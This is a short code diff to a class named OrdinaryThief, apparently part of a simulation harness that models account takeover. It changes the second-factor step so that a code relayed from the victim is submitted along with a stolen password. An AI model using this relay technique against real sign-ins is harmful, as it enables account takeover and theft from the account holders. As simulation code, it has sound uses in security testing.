@@ -34,11 +34,11 @@ class OrdinaryThief(Thief):
             self.browser, ordinary.SIGN_IN, {"login": address, "password": password}
         )
         if page.status == 302 and page.path == ordinary.FACTOR:
-            code = await self.app_code()
-            if code is None:
-                self.how = "wrote a password of theirs; the second factor stopped the sign-in"
+            self.how = "had a password that opens; the second factor stopped the sign-in"
+            form = await self.relayed("", "code")
+            if not form:
                 return False
-            await ordinary.submit(self.browser, ordinary.FACTOR, {"code": code})
+            await ordinary.submit(self.browser, ordinary.FACTOR, form)
         return await self.inside(self.browser)
 
     async def inside(self, browser: Browser) -> bool:
